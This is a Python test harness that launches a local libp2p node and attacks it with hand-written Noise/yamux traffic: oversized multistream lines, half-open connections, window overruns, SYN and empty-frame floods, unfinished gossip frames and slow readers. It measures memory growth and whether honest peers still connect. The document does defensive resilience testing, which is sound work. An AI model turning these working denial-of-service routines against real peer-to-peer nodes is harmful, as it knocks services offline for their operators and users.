"""What one hostile host can send to a node, byte by byte. Run as a program: `attacks.py stock|fixed <attack> ...`.

The node runs in a process of its own, so that its memory can be measured; the attacker speaks multistream, Noise and
yamux by hand and keeps no rule. Prints a line of JSON for each attack: the figures. Exit code 0: the node held, 3: not.
"""

from __future__ import annotations

import contextlib
import json
import logging
import os
import struct
import subprocess
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import trio
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.x25519 import create_new_key_pair as create_noise_key_pair
from libp2p.io.trio import TrioTCPStream
from libp2p.network.connection.raw_connection import RawConnection
from libp2p.peer.id import ID
from libp2p.protocol_muxer.multiselect_client import MultiselectClient
from libp2p.protocol_muxer.multiselect_communicator import MultiselectCommunicator
from libp2p.pubsub.pb import rpc_pb2
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE
from libp2p.security.noise.transport import Transport as NoiseTransport
from libp2p.security.security_multistream import SecurityMultistream
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX
from libp2p.utils.varint import encode_delim, encode_uvarint, encode_varint_prefixed

ROOT = Path(__file__).parents[3]
VICTIM = Path(__file__).with_name("victim.py")
MESHSUB = "/meshsub/1.1.0"
ECHO = "/strand/echo/1"
PING = "/ipfs/ping/1.0.0"
TOPIC = "/strand/test/0/rust/0"

DATA, WINDOW_UPDATE, PINGS = 0, 1, 2
SYN, ACK, FIN, RST = 1, 2, 4, 8
GROWTH_MIB_MAX = 256
"""What the issue allows a process to grow under any attack."""
PATIENCE_S = 30.0
"""For a connection that must close or a peer that must get in."""
SENT_WITHIN_S = 10.0
"""For sending what an attack sends: a node that pushes back may take no more of it."""


class NotHeldError(Exception):
    """The node did what it must not do."""


@dataclass
class Victim:
    """The node's process, its address, and its memory at rest."""

    process: subprocess.Popen[str]
    host: str
    port: int
    peer: ID
    rest_mib: float = 0.0
    peak_mib: float = 0.0
    figures: dict[str, Any] = field(default_factory=dict)

    def begin(self) -> None:
        """Measure anew from here."""
        self.figures = {}
        self.peak_mib = 0.0
        self.rest_mib = self.rss_mib()

    def growth_mib(self) -> float:
        return round(self.peak_mib - self.rest_mib, 1)

    def rss_mib(self) -> float:
        pages = int(Path(f"/proc/{self.process.pid}/statm").read_text().split()[1])
        rss = pages * os.sysconf("SC_PAGE_SIZE") / 2**20
        self.peak_mib = max(self.peak_mib, rss)
        return rss

    async def watch(self) -> None:
        while True:
            self.rss_mib()
            await trio.sleep(0.05)  # a measurement, not a wait


@asynccontextmanager
async def victim(variant: str, **settings: Any) -> AsyncIterator[Victim]:
    """A node in its own process, watched."""
    process = subprocess.Popen(  # noqa: ASYNC220
        [sys.executable, "-P", str(VICTIM), variant, json.dumps(settings)],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None
        address = (await trio.to_thread.run_sync(process.stdout.readline)).strip()
        parts = address.split("/")
        node = Victim(process, parts[2], int(parts[4]), ID.from_string(parts[6]))
        await probe(node)
        async with trio.open_nursery() as nursery:
            nursery.start_soon(node.watch)
            yield node
            nursery.cancel_scope.cancel()
    finally:
        process.terminate()
        process.wait(10)
        for pipe in (process.stdin, process.stdout):
            if pipe is not None:
                pipe.close()


def header(kind: int, flags: int, stream: int, length: int) -> bytes:
    return struct.pack("!BBHII", 0, kind, flags, stream, length)


class Wire:
    """A secured connection on which frames of yamux are written by hand. `number` is the key; each is a stranger."""

    def __init__(self, secured: Any, tcp: TrioTCPStream) -> None:
        self.secured = secured
        self.tcp = tcp
        self.nursery: trio.Nursery
        self.closed = trio.Event()
        self.reset_streams: set[int] = set()
        self.received: dict[int, int] = {}
        self.grants = False

    async def frame(self, kind: int, flags: int, stream: int, length: int, body: bytes = b"") -> None:
        await self.secured.write(header(kind, flags, stream, length) + body)

    async def open(self, stream: int, protocol: str) -> None:
        """A stream, and the two lines that choose its protocol; the answers are not waited for."""
        await self.frame(WINDOW_UPDATE, SYN, stream, 0)
        await self.data(stream, encode_delim(b"/multistream/1.0.0") + encode_delim(protocol.encode()))

    async def data(self, stream: int, body: bytes) -> None:
        for start in range(0, len(body), 60_000):
            part = body[start : start + 60_000]
            await self.frame(DATA, 0, stream, len(part), part)

    async def read(self) -> None:
        """Read what the node sends, answer its pings, and note when it closes."""
        try:
            while True:
                _, kind, flags, stream, length = struct.unpack("!BBHII", await self._exactly(12))
                if kind == DATA:
                    await self._exactly(length)
                    self.received[stream] = self.received.get(stream, 0) + length
                    if self.grants and length:
                        await self.frame(WINDOW_UPDATE, 0, stream, length)
                elif kind == PINGS and flags & SYN:
                    await self.frame(PINGS, ACK, 0, length)
                elif kind == 3:
                    break
                if flags & RST:
                    self.reset_streams.add(stream)
        except Exception:
            pass
        self.closed.set()

    async def _exactly(self, count: int) -> bytes:
        data = b""
        while len(data) < count:
            part = await self.secured.read(count - len(data))
            if not part:
                raise EOFError
            data += part
        return data

    async def close(self) -> None:
        with trio.CancelScope(shield=True):
            await self.tcp.close()


async def tcp(node: Victim, source: str | None = None) -> TrioTCPStream:
    return TrioTCPStream(await trio.open_tcp_stream(node.host, node.port, local_address=source))


async def wire(node: Victim, number: int = 2, source: str | None = None) -> Wire:
    """A connection that is secured and multiplexed, as by the stranger `number`."""
    key_pair = create_new_key_pair(number.to_bytes(32, "big"))
    transport = NoiseTransport(key_pair, noise_privkey=create_noise_key_pair().private_key)
    stream = await tcp(node, source)
    try:
        with trio.fail_after(PATIENCE_S):
            raw = RawConnection(stream, True)
            secured = await SecurityMultistream({NOISE: transport}).secure_outbound(raw, node.peer)
            await MultiselectClient().select_one_of([YAMUX], MultiselectCommunicator(secured))
    except BaseException:
        with trio.CancelScope(shield=True):
            await stream.close()
        raise
    return Wire(secured, stream)


async def probe(node: Victim, number: int = 1_000_000, source: str | None = None) -> None:
    """A well-behaved stranger connects and gets its ping back. Raises NotHeldError."""
    try:
        with trio.fail_after(PATIENCE_S):
            peer = await wire(node, number, source)
            await peer.open(1, PING)
            await peer.data(1, bytes(32))
            async with trio.open_nursery() as nursery:
                nursery.start_soon(peer.read)
                await until(lambda: peer.received.get(1, 0) >= 32 + 38 or peer.closed.is_set())
                if peer.closed.is_set():
                    raise NotHeldError("the connection of a well-behaved stranger was closed")
                nursery.cancel_scope.cancel()
            await peer.close()
    except NotHeldError:
        raise
    except BaseException as fault:
        if isinstance(fault, trio.Cancelled):
            raise
        raise NotHeldError(f"a well-behaved stranger does not get in: {fault!r}") from fault


async def must_close(peer: Wire, what: str) -> None:
    with trio.move_on_after(PATIENCE_S):
        await peer.closed.wait()
        return
    raise NotHeldError(f"{what}: the connection stays open")


@asynccontextmanager
async def attacker(node: Victim, number: int = 2) -> AsyncIterator[Wire]:
    """A wire whose answers are read in the background."""
    peer = await wire(node, number)
    async with trio.open_nursery() as peer.nursery:
        peer.nursery.start_soon(peer.read)
        yield peer
        peer.nursery.cancel_scope.cancel()
    await peer.close()


async def until_closed(peer: Wire, send: Callable[[], Awaitable[None]]) -> None:
    """Run `send` until it is done, the node has closed the connection, or time is over; then it goes on by itself."""
    over = trio.Event()

    async def run() -> None:
        with contextlib.suppress(Exception):  # the node has closed the connection
            await send()
        over.set()

    async def end() -> None:
        await peer.closed.wait()
        over.set()

    peer.nursery.start_soon(run)
    peer.nursery.start_soon(end)
    with trio.move_on_after(SENT_WITHIN_S):
        await over.wait()


async def until(condition: Callable[[], Any]) -> None:
    """Poll for what the other process sends; only for so long."""
    with trio.move_on_after(PATIENCE_S):
        while not condition():  # noqa: ASYNC110
            await trio.sleep(0.01)


# -- before authentication ---------------------------------------------------------------------------------------------


async def come_and_go(node: Victim) -> None:
    """20 strangers connect, ping and leave, one after another, at a node with 12 places; then one more must get in."""
    for number in range(2, 22):
        await probe(node, number)
    await probe(node)


async def long_line(node: Victim) -> None:
    """Six connections announce a multistream line of 90 MB and send 80 of them."""

    async def send(node: Victim) -> None:
        stream = await tcp(node)
        with trio.move_on_after(SENT_WITHIN_S):
            try:
                await stream.write(encode_delim(b"/multistream/1.0.0") + encode_uvarint(90 * 10**6))
                for _ in range(80):
                    await stream.write(bytes(10**6))
            except Exception:
                node.figures["refused"] = node.figures.get("refused", 0) + 1
        await stream.close()

    async with trio.open_nursery() as nursery:
        for _ in range(6):
            nursery.start_soon(send, node)
    await probe(node)
    if node.figures.get("refused", 0) < 6:
        raise NotHeldError(f"lines of any length are taken: {node.figures}")


async def half_open(node: Victim) -> None:
    """200 connections send nothing; meanwhile a stranger must get in, and they must be closed."""
    streams = [await tcp(node) for _ in range(200)]
    await probe(node)
    closed = 0
    with trio.move_on_after(SENT_WITHIN_S):
        for stream in streams:
            try:
                while await stream.read(1024):
                    pass
            except Exception:
                pass
            closed += 1
    node.figures["closed"] = closed
    for stream in streams:
        await stream.close()
    if closed < len(streams):
        raise NotHeldError(f"half-open connections stay: {node.figures}")


# -- after authentication ----------------------------------------------------------------------------------------------


async def window_overrun(node: Victim) -> None:
    """64 MB on a stream that nobody reads: the ping handler waits for its answer to be taken."""
    async with attacker(node) as peer:
        await peer.open(1, "/no/such/protocol")
        await peer.open(3, PING)

        async def send() -> None:
            for _ in range(1000):
                await peer.frame(DATA, 0, 3, 64_000, bytes(64_000))

        await until_closed(peer, send)
        await must_close(peer, "a window overrun")
        await probe(node)


async def unfinished_frames(node: Victim) -> None:
    """120 pubsub streams, each with 240 KB of a frame of 500 KB, and then nothing."""
    async with attacker(node) as peer:

        async def send() -> None:
            for number in range(120):
                await peer.open(2 * number + 1, MESHSUB)
                await peer.data(2 * number + 1, encode_uvarint(500_000) + bytes(240_000))

        await until_closed(peer, send)
        await until(lambda: len(peer.reset_streams) >= 100 or peer.closed.is_set())
        held = peer.closed.is_set() or len(peer.reset_streams) >= 100
        node.figures["closed"] = peer.closed.is_set()
        await probe(node)
    if not held or node.growth_mib() > 16:
        raise NotHeldError(f"unfinished frames stay: {node.figures}")


async def many_streams(node: Victim) -> None:
    """10,000 SYNs."""
    async with attacker(node) as peer:

        async def send() -> None:
            for start in range(0, 10_000, 1_000):
                numbers = range(start, start + 1_000)
                await peer.secured.write(b"".join(header(WINDOW_UPDATE, SYN, 2 * number + 1, 0) for number in numbers))

        await until_closed(peer, send)
        await must_close(peer, "10,000 streams")
        await probe(node)


async def empty_frames(node: Victim) -> None:
    """100,000 frames that say nothing."""
    async with attacker(node) as peer:
        await peer.open(1, PING)

        async def send() -> None:
            for sent in range(2_000, 102_000, 2_000):
                await peer.secured.write((header(DATA, 0, 1, 0) + header(WINDOW_UPDATE, 0, 999, 0)) * 1_000)
                node.figures["sent"] = sent

        await until_closed(peer, send)
        await must_close(peer, "a flood of empty frames")
        await probe(node)


async def slow_gossip(node: Victim) -> None:
    """A subscriber that never grants a window, while the node publishes 32 MiB."""
    subscribe = rpc_pb2.RPC(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=TOPIC)])
    async with attacker(node) as peer:
        await peer.open(1, MESHSUB)
        await peer.data(1, encode_varint_prefixed(subscribe.SerializeToString()))
        await peer.open(3, ECHO)
        order = b"publish %d" % (512 * 1024)

        async def accept_pubsub() -> None:
            """Answer the negotiation of the node's own pubsub stream, which has the number 2, and no more."""
            await until(lambda: any(number % 2 == 0 for number in peer.received))
            for number in (2, 4, 6):
                await peer.data(number, encode_delim(b"/multistream/1.0.0"))
                await peer.data(number, encode_delim(MESHSUB.encode()))

        await until_closed(peer, accept_pubsub)
        for _ in range(64):
            await peer.data(3, len(order).to_bytes(4, "big") + order)
        await must_close(peer, "a subscriber that reads nothing")
        await probe(node)


async def slow_requests(node: Victim) -> None:
    """32 requests for 8 MiB each, whose answers are never read."""
    async with attacker(node) as peer:
        order = b"send %d" % (8 * 1024 * 1024)
        for number in range(32):
            await peer.open(2 * number + 1, ECHO)
            await peer.data(2 * number + 1, len(order).to_bytes(4, "big") + order)
        await must_close(peer, "a peer that reads no answer")
        await probe(node)


async def crowd(node: Victim) -> None:
    """90 peers at once leave unfinished what each may: frames of gossip, and requests."""
    closed = 0

    async def leave_unfinished(number: int, *, task_status: Any = trio.TASK_STATUS_IGNORED) -> None:
        nonlocal closed
        async with attacker(node, number) as peer:
            task_status.started()

            async def send() -> None:
                for stream in (1, 3, 5):
                    await peer.open(stream, MESHSUB)
                    await peer.data(stream, encode_uvarint(580_000) + bytes(570_000))
                for stream in (7, 9, 11):
                    await peer.open(stream, ECHO)
                    await peer.data(stream, (512 * 1024).to_bytes(4, "big") + bytes(500_000))

            await until_closed(peer, send)
            with trio.move_on_after(PATIENCE_S):
                await peer.closed.wait()
            closed += peer.closed.is_set()

    async with trio.open_nursery() as nursery:
        for number in range(90):
            await nursery.start(leave_unfinished, 10_000 + number)
    node.figures["closed"] = closed
    await probe(node)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        come_and_go,
        long_line,
        half_open,
        window_overrun,
        unfinished_frames,
        many_streams,
        empty_frames,
        slow_gossip,
        slow_requests,
        crowd,
    )
}


async def run(variant: str, attacks: list[str]) -> bool:
    """Attack one node in one way after another; whether it held against all."""
    all_held = True
    few = {"peers_max": 16, "handshake_ms": 1_000}
    async with victim(variant, **({} if "crowd" in attacks else few)) as node:
        for attack in attacks:
            node.begin()
            started, failure = trio.current_time(), {}
            try:
                await ATTACKS[attack](node)
                if node.process.poll() is not None:
                    raise NotHeldError("the node's program ended")
                if node.growth_mib() > GROWTH_MIB_MAX:
                    raise NotHeldError("the node grew too much")
            except* NotHeldError as group:
                failure = {"not_held": repr(_first(group))}
            all_held = all_held and not failure
            figures = {"growth_mib": node.growth_mib(), **node.figures, **failure}
            took_s = round(trio.current_time() - started, 1)
            print(json.dumps({"attack": attack, "variant": variant, "held": not failure, **figures, "s": took_s}))
    return all_held


def _first(fault: BaseException) -> BaseException:
    while isinstance(fault, BaseExceptionGroup):
        fault = fault.exceptions[0]
    return fault


if __name__ == "__main__":
    logging.disable(logging.CRITICAL)
    sys.exit(0 if trio.run(run, sys.argv[1], sys.argv[2:]) else 3)
